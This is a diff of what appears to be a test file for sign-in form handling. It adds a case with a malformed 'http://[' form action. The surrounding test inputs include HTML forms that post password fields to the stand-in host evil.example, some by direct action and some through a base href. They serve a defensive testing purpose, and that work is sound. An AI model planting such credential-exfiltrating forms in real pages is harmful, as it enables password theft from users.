@@ -155,6 +155,7 @@ def test_a_safe_cookie_before_the_sign_in_does_not_hide_that_nobody_was_let_in()
         '<form method="post" action="https://evil.example/"><input type=password name=p></form>',
         '<form method="post" action="//evil.example/"><input name=u><input type=password name=p></form>',
         '<base href="//evil.example/"><form method=post action="in"><input type=password name=p></form>',
+        '<form method="post" action="http://["><input type=password name=p></form>',
         '<form action="/in"><input name=u><input type=password name=p></form>',
     ],
 )
